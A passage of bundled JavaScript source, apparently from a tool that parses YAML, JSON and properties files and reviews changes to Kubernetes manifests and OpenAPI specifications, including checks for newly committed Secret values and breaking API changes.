    const written2 = this.#scanner.getTokenValue();
    const value = VALUES.get(this.#token)?.(written2);
    if (value === void 0 || this.#isBroken()) this.#refuse("a value is expected");
    const endLine = this.#line;
    this.#next();
    return {
      kind: "scalar",
      text: written2,
      value: value ?? null,
      line,
      endLine,
      contentLine: endLine,
      size: 1,
      depth: 1
    };
  }
  #isBroken() {
    const error = this.#scanner.getTokenError();
    return error !== 0;
  }
  /** The next token that is neither space nor a comment. */
  #next() {
    this.#token = this.#scanner.scan();
    return this.#token;
  }
  #refuse(reason) {
    throw new Unreadable(`line ${this.#line}: ${reason}`, this.#line);
  }
};
var VALUES = /* @__PURE__ */ new Map([
  [TOKENS2.string, (text) => text],
  [TOKENS2.number, Number],
  [TOKENS2.true, () => true],
  [TOKENS2.false, () => false],
  [TOKENS2.null, () => null]
]);

// src/domains/config/loose-items.ts
var ITEM = /^( *)-(?: |$)/;
var OPENS3 = /(?:^|[:-])$/;
var SAYS_NOTHING = /^\s*(?:#.*|\{\{.*\}\}\s*)?$/;
var FARTHEST = 2;
function levelItems(text) {
  let lists = [];
  let last = "";
  let shift2;
  const lines = text.split("\n").map((line) => {
    if (SAYS_NOTHING.test(line)) return line;
    const written2 = line.search(/\S/);
    const isItem2 = ITEM.test(line);
    if (shift2 !== void 0 && written2 <= shift2.from) shift2 = void 0;
    if (isItem2 && !OPENS3.test(last)) shift2 = shiftOf(written2, lists);
    const indent = Math.max(written2 + (shift2?.by ?? 0), 0);
    lists = [...lists.filter((column) => column < indent), ...dashesOf(line).map((at3) => at3 - written2 + indent)];
    last = line.trimEnd();
    return " ".repeat(indent) + line.trimStart();
  });
  return lines.join("\n");
}
function dashesOf(line) {
  const [opening5] = /^ *(?:-(?: +|$))*/.exec(line) ?? [""];
  return [...opening5.matchAll(/-/g)].map(({ index }) => index);
}
function shiftOf(from3, lists) {
  const near = lists.filter((column) => Math.abs(column - from3) <= FARTHEST);
  return lists.includes(from3) || near.length === 0 ? void 0 : { from: from3, by: Math.max(...near) - from3 };
}

// src/domains/config/parse.ts
function parse(text, path27, placed3 = (line) => line) {
  if (text.length > LIMITS.characters) throw new Unreadable("it is longer than 5 MB");
  if (isJson(path27)) return fileOf([readJson(text)], { path: path27, text });
  const side2 = { path: path27, text: text.replaceAll("\r\n", "\n"), placed: placed3 };
  return firstReadable(waysOf(text, path27), side2);
}
var readPlain2 = ({ path: path27, text, placed: placed3 }) => fileOf(readDocuments(text, placed3, false), { path: path27, text });
var TEMPLATE_WAYS = [
  mask,
  (text) => mask(levelBranches(text)),
  (text) => mask(levelItems(levelBranches(withoutFragments(text)))),
  moreIndented
].map((masked) => ({ path: path27, text, placed: placed3 }) => {
  const { text: readable, conditions } = masked(text);
  return fileOf(readDocuments(readable, placed3, true), { path: path27, text, conditions, isTemplate: true });
});
function moreIndented(text) {
  const { text: masked, conditions } = mask(text);
  return { text: indented(masked) ?? masked, conditions };
}
function waysOf(text, path27) {
  if (!isTemplate2(text, path27)) return text.includes("{{") ? [readPlain2, ...TEMPLATE_WAYS] : [readPlain2];
  return isOfChart(path27) ? [...TEMPLATE_WAYS, readPlain2] : TEMPLATE_WAYS.toSpliced(2, 0, readPlain2);
}
function firstReadable(ways, side2) {
  let first;
  for (const way of ways) {
    try {
      return way(side2);
    } catch (error) {
      if (!(error instanceof Unreadable)) throw error;
      first ??= error;
    }
  }
  throw first ?? new Unreadable("there is no way to read it");
}
function fileOf(read3, { path: path27, text, conditions = [], isTemplate: template = false }) {
  const guarded = template ? { guards: guardsIn(text), filled: filledIn(text) } : {};
  const documents2 = read3.flatMap((planted) => planted ? apart(planted) : []).map(({ root, duplicates }) => ({ path: path27, isTemplate: template, root, duplicates, ...guarded }));
  const several = read3.length > 1 || documents2.length > 1;
  return { path: path27, documents: documents2, several, conditions, inComments: credentialsInComments(text, isJson(path27)) };
}
var isJson = (path27) => /\.jsonc?$/i.test(path27);
var NEEDS_ALL = /^(?:%|\.\.\.)|\r|^\ufeff/m;
function readDocuments(text, placed3, template) {
  if (NEEDS_ALL.test(text)) return compose(text, placed3, template);
  const pieces = piecesOf(text.split("\n"));
  if (pieces.length > LIMITS.documents) throw new Unreadable("it holds more than 20,000 documents");
  let size2 = 0;
  return pieces.flatMap(({ lines, above }) => {
    const at3 = (line) => placed3(above + line);
    const blocks4 = readBlocks(lines, at3, template);
    const planted = blocks4 === void 0 ? compose(lines.join("\n"), at3, template) : [blocks4];
    size2 += planted.reduce((sum2, each) => sum2 + (each?.root.size ?? 0), 0);
    if (size2 > LIMITS.nodes) throw new Unreadable("it holds more than 200,000 values");
    return planted;
  });
}
var BARE_MARK = /^---[ \t]*(?:#.*)?$/;
function piecesOf(lines) {
  const starts = lines.flatMap((line, index) => /^---(?=\s|$)/.test(line) ? [index] : []);
  const isEmpty2 = lines.slice(0, starts[0]).every((line) => /^\s*(?:#|$)/.test(line));
  const begins = isEmpty2 && starts.length > 0 ? starts : [0, ...starts];
  const unmarked = lines.map((line) => BARE_MARK.test(line) ? "" : line);
  return begins.map((begin, index) => ({ lines: unmarked.slice(begin, begins[index + 1]), above: begin }));
}
function apart(planted) {
  const items = itemsAt(planted.root, "items");
  if (!textAt(planted.root, "kind")?.endsWith("List") || items.length === 0) return [planted];
  if (!items.every((item) => textAt(item, "kind") !== void 0)) return [planted];
  return items.map((root, index) => ({ root, duplicates: index === 0 ? planted.duplicates : [] }));
}

// src/domains/config/properties.ts
function readProperties(text, placed3) {
  const entries = /* @__PURE__ */ new Map();
  const lines = text.split("\n");
  for (const [index, each] of lines.entries()) {
    if (/^\s*(?:[#!;].*|\[.*\]\s*)?$/.test(each)) continue;
    const [, name, value] = /^\s*(?:export\s+)?([\w.-]+)[ \t]*=[ \t]*(.*)$/.exec(each) ?? [];
    if (name === void 0 || value === void 0) return void 0;
    const line2 = placed3(index + 1);
    const content = value.trim().replace(/^(["'])(.*)\1$/, "$2");
    entries.set(name, {
      kind: "scalar",
      text: content,
      value: content,
      line: line2,
      endLine: line2,
      contentLine: line2,
      size: 1,
      depth: 1
    });
  }
  const [line, endLine] = [placed3(1), placed3(lines.length)];
  return entries.size === 0 ? void 0 : { kind: "map", entries, line, endLine, size: entries.size + 1, depth: 2 };
}

// src/domains/config/nested.ts
var LONGEST6 = 2e4;
var COMMENTS = /^(?:[ \t]*(?:[#!].*)?\n)*/;
var BEGINS_JSON = /^\s*(?:[{[]|- +\{)/;
var BEGINS_YAML = /^(?:- +)?["']?[\w./-]+["']?:(?:[ \t].*)?\n/;
var BEGINS_PROPERTIES = /^[\w.-]+[ \t]*=(?!=?\s*$)/;
var CONNECTION = /^[^\n=;]+=[^\n;]*;[^\n]*\s*$/;
var known = /* @__PURE__ */ new WeakMap();
function nestedIn(scalar2) {
  if (typeof scalar2.value !== "string" || scalar2.text.length > LONGEST6 || scalar2.text.length < 3) return void 0;
  if (!known.has(scalar2)) known.set(scalar2, read(scalar2));
  return known.get(scalar2);
}
var IS_EXAMPLE = /^[#\s]*EXAMPLE CONFIGURATION\b/;
function read(scalar2) {
  if (IS_EXAMPLE.test(scalar2.text)) return void 0;
  const begin = scalar2.text.replace(COMMENTS, "");
  const isBlock = scalar2.contentLine > scalar2.line;
  const placed3 = (line) => isBlock ? scalar2.contentLine + line - 1 : scalar2.line;
  if (BEGINS_JSON.test(begin) || BEGINS_YAML.test(begin)) return readYaml(scalar2.text, placed3);
  return BEGINS_PROPERTIES.test(begin) && !CONNECTION.test(begin) ? readProperties(scalar2.text, placed3) : void 0;
}
function readYaml(text, placed3) {
  try {
    const { documents: documents2 } = parse(text, "", placed3);
    const root = documents2.length === 1 ? documents2[0]?.root : void 0;
    return root === void 0 || root.kind === "scalar" ? void 0 : root;
  } catch (error) {
    return noneIfUnreadable(error);
  }
}

// src/domains/config/kubernetes/secret-objects.ts
var SEALED = /* @__PURE__ */ new Set(["ExternalSecret", "SealedSecret", "SopsSecret"]);
function secretFacts(pairs) {
  const sealed3 = new Set(pairs.flatMap(({ before: before3 }) => SEALED.has(kindOf(before3)) ? [calledAs(before3)] : []));
  return pairs.flatMap((pair) => {
    const { before: before3, after } = pair;
    const kind = kindOf(after);
    if (after === void 0 || kind !== "Secret" && kind !== "EncryptionConfiguration") return [];
    const [had, has2] = [readableIn(before3), readableIn(after)];
    const known2 = new Set(had.map(({ text }) => text));
    const [first, ...others] = has2.filter(({ text }) => !known2.has(text));
    if (first === void 0) return [];
    const wasSealed = sealed3.has(calledAs(after)) || at(before3?.root, "sops") !== void 0 && had.length === 0;
    const ofSecret = wasSealed ? "unsealed" : "value";
    return [factOf2(pair, kind === "Secret" ? ofSecret : "key", first, others.length)];
  });
}
function factOf2(pair, what, first, others) {
  return {
    kind: "secret-committed",
    ...objectFact(pair, [], `holds ${first.name}`, { after: first.node }),
    // One Secret in several files, as a test has it before and after, is one.
    group: `${calledAs(pair.after)} holds ${first.name} and ${others} more`,
    name: (pair.after && nameOf2(pair.after)) ?? "",
    first: first.name,
    others,
    what,
    within: place(pair.path, pair.after?.root) ?? { path: pair.path, line: 1 },
    secret: true
  };
}
var calledAs = (document) => document === void 0 ? "" : `${namespaceOf(document)}/${nameOf2(document) ?? ""}`;
var readableIn = (document) => [...valuesOf3(document), ...keysOf2(document)].flatMap(({ name, node, isEncoded }) => {
  if (node.kind !== "scalar" || isDynamic(node)) return [];
  const text = isEncoded ? Buffer.from(node.text, "base64").toString() : node.text;
  const isNone2 = isReference(text) || isReference(node.text) || isPlaceholder(text.slice(0, 300)) || isPublic(text);
  return isNone2 || !isEncoded && nestedIn(node) !== void 0 ? [] : [{ name, text, node }];
});
var isPublic = (text) => /^-----BEGIN (?:CERTIFICATE|PUBLIC KEY)/.test(text) || NEIGHBOUR.test(text);
var NEIGHBOUR = /^https?:\/\/(?:[\w-]+|[\w.-]+\.(?:internal|local|svc))(?::\d+)?(?:\/[^\s?@]*)?$/;
var valuesOf3 = (document) => kindOf(document) === "Secret" ? ["data", "stringData"].flatMap(
  (part) => entriesOf(at(document?.root, part)).map(([name, node]) => ({ name, node, isEncoded: part === "data" }))
) : [];
var keysOf2 = (document) => kindOf(document) === "EncryptionConfiguration" ? itemsAt(document?.root, "resources").flatMap((group4) => itemsAt(group4, "providers")).flatMap((provider) => entriesOf(provider).flatMap(([, settings]) => itemsAt(settings, "keys"))).flatMap((each) => {
  const node = at(each, "secret");
  return node === void 0 ? [] : [{ name: "secret", node, isEncoded: false }];
}) : [];
function oneFactEach(facts) {
  const committed = facts.filter((fact4) => fact4.kind === "secret-committed");
  if (committed.length === 0) return facts;
  const graver = committed.filter(({ what }) => what !== "value");
  const left = facts.filter((fact4) => fact4.kind !== "secret-written" || !graver.some((each) => encloses(each, fact4)));
  const written2 = left.filter((fact4) => fact4.kind === "secret-written");
  return left.filter(
    (fact4) => fact4.kind !== "secret-committed" || fact4.what !== "value" || !written2.some((value) => encloses(fact4, value))
  );
}
var encloses = ({ within: within4 }, { after }) => after !== void 0 && after.path === within4.path && after.line >= within4.line && after.line <= (within4.endLine ?? within4.line);

// src/domains/config/kubernetes/facts.ts
var isDefinition = ({ before: before3, after }) => kindOf(after ?? before3) === "CustomResourceDefinition";
var READERS2 = [
  { reads: isBinding, facts: bindingFacts },
  { reads: isNetworkPolicy, facts: networkPolicyFacts },
  { reads: isDefinition, facts: crdFacts },
  { reads: () => true, facts: apiVersionFacts }
];
function kubernetesFacts(pairs, settings) {
  const whole3 = pairs.filter((pair) => !isPatch(pair));
  const changed4 = pairs.filter((pair) => !isNearby(pair));
  const comparable = changed4.filter(isComparable);
  return [
    ...comparable.flatMap((pair) => readersOf(pair).flatMap(({ facts }) => facts(pair, settings))),
    ...rolesFacts(comparable),
    ...renameFacts(comparable),
    ...guardFacts(whole3.filter((pair) => !isNearby(pair))),
    ...readinessFacts(whole3),
    ...referenceFacts(whole3),
    ...secretFacts(whole3)
  ];
}
var isNearby = ({ before: before3, after }) => before3 !== void 0 && before3 === after;
var readersOf = (pair) => READERS2.filter(({ reads }) => reads(pair));
var isComparable = (pair) => !isPatch(pair) || pair.before !== void 0 && pair.after !== void 0 && !isDefinition(pair);

// src/domains/config/kubernetes/references.ts
var SELECTING = /* @__PURE__ */ new Set(["DaemonSet", "Deployment", "ReplicaSet", "StatefulSet"]);
var SELECTOR_KINDS = /* @__PURE__ */ new Set([...SELECTING, "Service"]);
var PROBES = ["readinessProbe", "livenessProbe", "startupProbe"];
var HANDLERS = ["httpGet", "tcpSocket"];
function referenceSettings(document) {
  const pods = podPair(document);
  if (pods === void 0 || document.after?.isTemplate !== false) return [];
  return [
    ...ownLabels(document),
    ...containerPairs(pods).flatMap((pair) => [...probePorts(pair), ...probeTargets(pair), ...probeSeconds(pair)])
  ];
}
function ownLabels(document) {
  const { before: before3, after } = document;
  if (after === void 0 || !SELECTING.has(kindOf(after))) return [];
  const path27 = ["spec", "selector", "matchLabels"];
  const owners = { document, before: before3 && { node: before3.root }, after: { node: after.root } };
  const sides = { before: at(before3?.root, ...path27), after: at(after.root, ...path27) };
  return [effectiveSetting(owners, "own labels", path27.map(key), sides)];
}
function selectorSettings(document) {
  const { before: before3, after } = document;
  if (before3 === void 0 || after === void 0 || !SELECTOR_KINDS.has(kindOf(after))) return [];
  if (isFilledIn(after) && !isFilledIn(before3)) return [];
  const owners = { document, before: { node: before3.root }, after: { node: after.root } };
  const sides = { before: labelsAsked(before3.root), after: labelsAsked(after.root) };
  return [effectiveSetting(owners, "selector", ["spec", "selector"].map(key), sides)];
}
function isFilledIn({ root, filled }) {
  const selector2 = at(root, "spec", "selector");
  return [selector2, at(selector2, "matchLabels")].some((node) => node !== void 0 && filled?.has(node.line) === true);
}
function labelsAsked(root) {
  const selector2 = at(root, "spec", "selector");
  const labels = entriesOf(at(selector2, "matchLabels") ?? selector2).filter(([, value]) => value.kind === "scalar");
  const texts = labels.map(([name, value]) => `${name}=${textsOf(value)[0] ?? ""}`);
  return selector2 && texts.length > 0 ? derived(selector2, texts.toSorted().join(", ")) : void 0;
}
var sameText = (node, { before: before3 }) => Number(textsOf(node)[0] === textsOf(before3)[0]);
function selectsItsPods(selector2, root) {
  const labels = at(root, "spec", "template", "metadata", "labels");
  return entriesOf(selector2).every(([name, value]) => textsOf(value)[0] === textAt(labels, name));
}
var probePorts = (pair) => PROBES.flatMap(
  (probe2) => HANDLERS.map(
    (handler) => effectiveSetting(pair, "probe.port", containerPath(pair.after, probe2, handler, "port"), {
      before: at(pair.before?.node, probe2, handler, "port"),
      after: at(pair.after.node, probe2, handler, "port")
    })
  )
);
var probeTargets = (pair) => PROBES.flatMap((probe2) => {
  const [before3, after] = [pair.before?.node, pair.after.node].map((node) => targetOf3(node, probe2));
  if (before3 === void 0 || after === void 0) return [];
  return [effectiveSetting(pair, "probe.target", containerPath(pair.after, probe2), { before: before3, after })];
});
var UNLISTED = ", which it does not list";
var isListedPort = (target) => !target.endsWith(UNLISTED);
function targetOf3(container2, probe2) {
  const node = at(container2, probe2);
  const handler = ["exec", "grpc", ...HANDLERS].find((name) => at(node, name) !== void 0);
  if (node === void 0 || handler === void 0) return void 0;
  const port = at(node, handler, "port");
  if (port !== void 0 && !hasPort(port, container2)) return void 0;
  const asked4 = [numberOf(port, container2), textAt(node, handler, "path")].filter((text) => text !== void 0);
  const isUnlisted = port !== void 0 && !listsNumber(textsOf(port)[0] ?? "", container2);
  return derived(at(node, handler) ?? node, `${[handler, ...asked4].join(" ")}${isUnlisted ? UNLISTED : ""}`);
}
function numberOf(port, container2) {
  const [text] = textsOf(port);
  const named4 = itemsAt(container2, "ports").find((each) => textAt(each, "name") === text);
  return textAt(named4, "containerPort") ?? text;
}
function listsNumber(port, container2) {
  const ports2 = itemsAt(container2, "ports");
  return ports2.length === 0 || !/^\d+$/.test(port) || ports2.some((each) => textAt(each, "containerPort") === port);
}
var probeSeconds = (pair) => PROBES.filter((probe2) => probe2 !== "startupProbe").flatMap((probe2) => {
  const [before3, after] = [pair.before?.node, pair.after.node].map((node) => noticedAfter(at(node, probe2)));
  if (before3 === void 0 || after === void 0) return [];
  return [effectiveSetting(pair, "probe.seconds", containerPath(pair.after, probe2), { before: before3, after })];
});
function noticedAfter(probe2) {
  if (probe2 === void 0) return void 0;
  const [period, threshold] = [textAt(probe2, "periodSeconds") ?? "10", textAt(probe2, "failureThreshold") ?? "3"];
  return /^\d{1,6} \d{1,6}$/.test(`${period} ${threshold}`) ? derived(
    at(probe2, "periodSeconds") ?? at(probe2, "failureThreshold") ?? probe2,
    String(Number(period) * Number(threshold))
  ) : void 0;
}
function hasPort(port, container2) {
  const name = textsOf(port)[0] ?? "";
  return /^\d+$/.test(name) || itemsAt(container2, "ports").some((each) => textAt(each, "name") === name);
}

// src/domains/config/kubernetes/owned.ts
var WHOLE_KINDS = /* @__PURE__ */ new Map([
  ["CustomResourceDefinition", ["spec"]],
  ["ClusterRole", ["rules", "aggregationRule"]],
  ["Role", ["rules"]],
  ["ClusterRoleBinding", ["subjects", "roleRef"]],
  ["RoleBinding", ["subjects", "roleRef"]],
  ["NetworkPolicy", ["spec"]],
  ["PeerAuthentication", ["spec"]]
]);
var speaksFor = (setting) => !isEffectiveSetting(setting) && (setting.keys[0] === "apiVersion" || inWholeKind(setting) || isMeshMode(setting) || isSelector(setting) || inPodSecurity(setting) || isReadiness(setting));
var isMeshMode = ({ keys, document }) => kindOf(document.after ?? document.before) === "DestinationRule" && /(?:^|\.)tls(?:\.mode)?$/.test(keys.join("."));
var isSelector = ({ keys, document }) => keys[0] === "spec" && keys[1] === "selector" && SELECTOR_KINDS.has(kindOf(document.after ?? document.before));
function inWholeKind({ keys, document }) {
  const owned = WHOLE_KINDS.get(kindOf(document.after ?? document.before));
  return owned !== void 0 && owned.includes(keys[0] ?? "");
}
function inPodSecurity({ keys, document }) {
  const context = keys.lastIndexOf("securityContext");
  const name = keys[context + 1] ?? "";
  const speaks = keys.includes("hostPath") || context >= 0 && (name === "capabilities" || name === "sysctls" || INHERITED.some(([first]) => first === name));
  return speaks && podOf(document.after ?? document.before) !== void 0;
}
var isReadiness = ({ keys, document, owner, after }) => after === void 0 && owner === "kept" && keys.at(-1) === "readinessProbe" && document.dialect === "kubernetes" && podOf(document.after) !== void 0;

// src/domains/config/dialects/kubernetes.ts
var kubernetes_default = {
  name: "kubernetes",
  recognises: isObject,
  identity(document) {
    const name = nameOf2(document);
    return name === void 0 ? void 0 : [document.isPatch ? "patch" : "", groupOf(document), kindOf(document), namespaceOf(document), name].join("/");
  },
  title: (document) => [kindOf(document), nameOf2(document)].filter(Boolean).join("/"),
  isObject: isOfRelease,
  isSchema: (keys) => keys.includes("openAPIV3Schema"),
  closedKeys: (keys) => !FREE_KEYS3.has(keys.at(-1) ?? "") && !isOfOtherProgram(keys),
  owns: speaksFor,
  effective: (pair) => [
    ...effectiveSettings(pair),
    ...encryptionSettings(pair),
    ...decryptionSettings(pair),
    ...isPatch(pair) ? [] : [...referenceSettings(pair), ...selectorSettings(pair)],
    ...fixedSettings(pair)
  ],
  facts: kubernetesFacts
};
function isOfRelease([first, second, ...below6], document) {
  return first === "spec" && second === "values" && below6.length > 0 && kindOf(document) === "HelmRelease";
}
var isOfOtherProgram = (keys) => keys[0] === "spec" && keys[1] === "config";
var FREE_KEYS3 = /* @__PURE__ */ new Set([
  "annotations",
  "binaryData",
  "data",
  "labels",
  "matchLabels",
  "nodeSelector",
  "parameters",
  "selector",
  "stringData"
]);

// src/domains/config/openapi/origins.ts
import { dirname as dirname2, join } from "node:path/posix";
var origins = /* @__PURE__ */ new WeakMap();
var originOf = (node) => node && origins.get(node);
function claim(file) {
  const waiting = [file.root];
  for (let node = waiting.pop(); node !== void 0; node = waiting.pop()) {
    if (origins.has(node)) continue;
    origins.set(node, file);
    waiting.push(...childrenOf2(node));
  }
}
var childrenOf2 = (node) => node.kind === "list" ? node.items : entriesOf(node).map(([, child]) => child);
function targetOf4(reference, from3) {
  const [file = "", pointer = ""] = reference.split("#");
  if (file === "" || /^(?:[a-z][a-z0-9+.-]*:|\/)/i.test(file)) return void 0;
  const path27 = join(dirname2(from3), decoded(file));
  return path27.startsWith("../") ? void 0 : { path: path27, pointer };
}
function decoded(text) {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

// src/domains/config/openapi/model.ts
var isOpenApi = ({ root }) => /^3\.\d/.test(textAt(root, "openapi") ?? "") || textAt(root, "swagger") === "2.0";
var MOST_HOPS = 50;
function resolve(api2, site) {
  let found = site;
  for (let hops = 0; hops < MOST_HOPS; hops++) {
    const reference = textAt(found.node, "$ref");
    const next = reference === void 0 ? void 0 : follow(api2, found.node, reference);
    if (next === void 0) return found;
    found = next;
  }
  return found;
}
function follow(api2, from3, reference) {
  const origin = originOf(from3);
  if (!reference.startsWith("#/")) return origin && elsewhere(origin, reference);
  const isOwn2 = origin === void 0 || origin.root === api2;
  return siteAt(isOwn2 ? api2 : origin.root, reference.slice(1), isOwn2 ? void 0 : origin);
}
function elsewhere(origin, reference) {
  const target = targetOf4(reference, origin.path);
  const file = target && origin.siblings.get(target.path);
  return file && target && siteAt(file.root, target.pointer, file);
}
function siteAt(root, pointer, file) {
  const keys = pointer.split("/").slice(1).map(unescaped2);
  const node = at(root, ...keys);
  const path27 = file === void 0 ? keys : [file.path, ...keys];
  return node && { node, path: path27, definition: keys.at(-1) ?? nameOfFile(file?.path ?? "") };
}
var nameOfFile = (path27) => path27.replace(/^.*\//, "").replace(/\.\w+$/, "");
var unescaped2 = (part) => part.replaceAll("~1", "/").replaceAll("~0", "~");
function below2(api2, site, ...keys) {
  const node = at(site?.node, ...keys);
  return site && node && resolve(api2, { ...site, node, path: [...site.path, ...keys] });
}
function entriesBelow(api2, site, key3) {
  const owner = below2(api2, site, key3);
  if (site === void 0 || owner === void 0) return [];
  return entriesOf(owner.node).map(([name, node]) => [
    name,
    resolve(api2, { ...site, node, path: [...site.path, key3, name] })
  ]);
}
var METHODS = /* @__PURE__ */ new Set(["get", "put", "post", "delete", "options", "head", "patch", "trace", "query"]);
var operationsOf = (api2) => entriesBelow(api2, { node: api2, path: [] }, "paths").flatMap(
  ([template, item]) => entriesOf(item.node).filter(([method2]) => METHODS.has(method2)).map(([method2, node]) => ({
    ...resolve(api2, { node, path: ["paths", template, method2] }),
    method: method2,
    template,
    title: `${method2.toUpperCase()} ${template}`,
    item
  }))
);
var shapeOfTemplate = (template) => template.replace(/\{[^{}/]*\}/g, "{}");
var NO_PARAMETERS = /* @__PURE__ */ new Set(["accept", "authorization", "content-type"]);
function parametersOf(api2, { node, path: path27, item, template }) {
  const sites = [{ node, path: path27 }, item].flatMap(
    (owner) => itemsAt(owner.node, "parameters").map(
      (each) => resolve(api2, { node: each, path: [...owner.path, "parameters", textAt(each, "name") ?? ""] })
    )
  );
  const turns = [...template.matchAll(/\{([^{}/]*)\}/g)].map(([, name]) => name);
  const parameters = sites.flatMap((site) => {
    const [name, place2] = [textAt(site.node, "name") ?? "", textAt(site.node, "in") ?? ""];
    if (place2 === "body" || place2 === "header" && NO_PARAMETERS.has(name.toLowerCase())) return [];
    const known2 = place2 === "header" ? name.toLowerCase() : name;
    const identity = `${place2} ${place2 === "path" ? turns.indexOf(name) : known2}`;
    return [{ ...site, name, place: place2, identity, isRequired: isTrue2(site.node, "required") }];
  });
  return [...new Map(parameters.toReversed().map((each) => [each.identity, each])).values()].toReversed();
}
function bodyOf(api2, operation2) {
  const parameters = itemsAt(operation2.node, "parameters").map(
    (node) => resolve(api2, { node, path: [...operation2.path, "parameters", "body"] })
  );
  return below2(api2, operation2, "requestBody") ?? parameters.find(({ node }) => textAt(node, "in") === "body");
}
function contentOf(api2, site) {
  const single = below2(api2, site, "schema");
  if (single !== void 0) return /* @__PURE__ */ new Map([["*/*", single]]);
  const content = entriesBelow(api2, site, "content");
  return new Map(content.map(([type, media]) => [plainType(type), below2(api2, media, "schema")]));
}
var plainType = (type) => (type.split(";")[0] ?? "").trim().toLowerCase();
var isTrue2 = (node, key3) => switchOf(at(node, key3)) === true;

// src/domains/config/dialects/openapi-part.ts
var openapi_part_default = {
  name: "openapi-part",
  recognises: (document) => originOf(document.root) !== void 0 && !isOpenApi(document),
  isSchema: () => true,
  owns: () => true
};

// src/domains/config/openapi/finding.ts
var together = (parts) => ({
  findings: parts.flatMap(({ findings }) => findings),
  schemas: parts.flatMap(({ schemas }) => schemas)
});
var announced = ({ node }) => isTrue2(node, "deprecated") ? { isDeprecated: true } : {};
var newlyDeprecated = (before3, after, operation2, element) => isTrue2(after.node, "deprecated") && !isTrue2(before3.node, "deprecated") ? [
  {
    what: "deprecated",
    operation: operation2,
    element,
    path: after.path,
    before: before3.node,
    after: at(after.node, "deprecated")
  }
] : [];

// src/domains/config/openapi/content.ts
function compareContent(pair, before3, after, direction) {
  const [old, now] = [contentOf(pair.base, before3), contentOf(pair.head, after)];
  const lost = now.size === 0 ? [] : [...old.keys()].filter((type) => !isCovered(type, now));
  return {
    findings: lost.map((type) => ({
      what: "media-type-removed",
      operation: pair.after.title,
      element: type,
      direction,
      path: [...after.path, "content", type],
      before: at(before3.node, "content", type) ?? before3.node,
      after: at(after.node, "content") ?? after.node,
      cause: `${direction} ${type}`
    })),
    schemas: sharedSchemas(pair, { old, now }, direction, "")
  };
}
var isCovered = (type, among4) => type === "*/*" || [type, `${type.split("/")[0] ?? ""}/*`, "*/*"].some((each) => among4.has(each));
var sharedSchemas = ({ after: { title } }, { old, now }, direction, element) => [...old].flatMap(([type, before3]) => {
  const after = now.get(type) ?? now.get("*/*");
  return before3 && after ? [{ before: before3, after, direction, operation: title, element }] : [];
});

// src/domains/config/openapi/requests.ts
function compareParameters(pair) {
  const { base, head, before: before3, after } = pair;
  const [old, now] = [parametersOf(base, before3), parametersOf(head, after)];
  const { matched, removed: removed2, added: added2 } = compare(old, now, ({ identity }) => identity);
  return {
    findings: [
      ...removed2.filter(isOutsidePath).map((each) => removal2(pair, each)),
      ...added2.filter((each) => isOutsidePath(each) && asks(each)).map((each) => demand(pair, "parameter-added-required", before3.node, each)),
      ...matched.flatMap((both2) => matchedFindings(pair, both2.before, both2.after))
    ],
    schemas: matched.flatMap(
      (both2) => sharedSchemas(
        pair,
        { old: schemasOf(base, both2.before), now: schemasOf(head, both2.after) },
        "request",
        both2.after.name
      )
    )
  };
}
var isOutsidePath = ({ place: place2 }) => place2 !== "path";
var asks = ({ isRequired, node }) => isRequired && textAt(node, "in") !== "path" && at(node, "schema", "default") === void 0 && at(node, "default") === void 0;
var matchedFindings = (pair, old, now) => [
  ...asks(now) && !old.isRequired ? [demand(pair, "parameter-became-required", old.node, now)] : [],
  ...newlyDeprecated(old, now, pair.after.title, now.name)
];
var demand = ({ after }, what, before3, { name, path: path27, node }) => ({ what, operation: after.title, element: name, path: path27, before: before3, after: node, cause: name });
var removal2 = ({ after }, { name, path: path27, node }) => ({
  what: "parameter-removed",
  operation: after.title,
  element: name,
  path: path27,
  before: node,
  after: at(after.node, "parameters") ?? after.node,
  cause: name,
  ...announced({ node })
});
function schemasOf(api2, parameter3) {
  const content = contentOf(api2, parameter3);
  return content.size > 0 ? content : /* @__PURE__ */ new Map([["*/*", parameter3]]);
}
function compareBodies(pair) {
  const [old, now] = [bodyOf(pair.base, pair.before), bodyOf(pair.head, pair.after)];
  const content = old && now ? compareContent(pair, old, now, "request") : { findings: [], schemas: [] };
  const what = becameOf(old, now);
  if (what === void 0) return content;
  const finding = {
    what,
    operation: pair.after.title,
    element: "",
    direction: "request",
    path: [...pair.after.path, "requestBody"],
    before: old?.node ?? pair.before.node,
    after: now?.node ?? pair.after.node
  };
  return { findings: [finding, ...content.findings], schemas: content.schemas };
}
function becameOf(old, now) {
  if (now === void 0) return old && "body-removed";
  if (!isTrue2(now.node, "required")) return void 0;
  if (old === void 0) return "body-added-required";
  return isTrue2(old.node, "required") ? void 0 : "body-became-required";
}

// src/domains/config/openapi/responses.ts
function compareResponses(pair) {
  const had = entriesBelow(pair.base, pair.before, "responses").filter(([status]) => !status.startsWith("x-"));
  const has2 = new Map(entriesBelow(pair.head, pair.after, "responses"));
  const fresh = [...has2.keys()].filter((status) => !had.some(([known2]) => known2 === status));
  return together(
    had.map(([status, old]) => {
      const now = has2.get(status) ?? has2.get(`${status.slice(0, 1)}XX`);
      if (now === void 0) return { findings: [statusFinding(pair, status, old, fresh)], schemas: [] };
      return together([
        compareContent(pair, old, now, "response"),
        { findings: headerFindings(pair, old, now), schemas: [] }
      ]);
    })
  );
}
function statusFinding({ after }, status, old, fresh) {
  const other = isSuccess(status) ? fresh.find(isSuccess) : void 0;
  const removed2 = {
    operation: after.title,
    element: status,
    direction: "response",
    path: [...after.path, "responses", status],
    before: old.node,
    cause: status
  };
  const responses = at(after.node, "responses");
  if (other === void 0) return { ...removed2, what: "status-removed", after: responses ?? after.node };
  return { ...removed2, what: "status-replaced", from: status, to: other, after: at(responses, other) };
}
var isSuccess = (status) => status.startsWith("2");
function headerFindings({ base, head, after }, old, now) {
  const has2 = new Set(entriesBelow(head, now, "headers").map(([name]) => name.toLowerCase()));
  return entriesBelow(base, old, "headers").filter(([name]) => !has2.has(name.toLowerCase())).map(([name, header]) => ({
    what: "header-removed",
    operation: after.title,
    element: name,
    direction: "response",
    path: [...now.path, "headers", name],
    before: header.node,
    after: at(now.node, "headers") ?? now.node,
    cause: name,
    ...isTrue2(header.node, "required") ? { isRequired: true } : {}
  }));
}

// src/domains/config/openapi/compare-operations.ts
function compareOperations(base, head) {
  const { matched, removed: removed2, added: added2 } = compare(
    operationsOf(base),
    operationsOf(head),
    ({ method: method2, template }) => `${method2} ${shapeOfTemplate(template)}`
  );
  const moved3 = compare(removed2.filter(hasId), added2.filter(hasId), idOf);
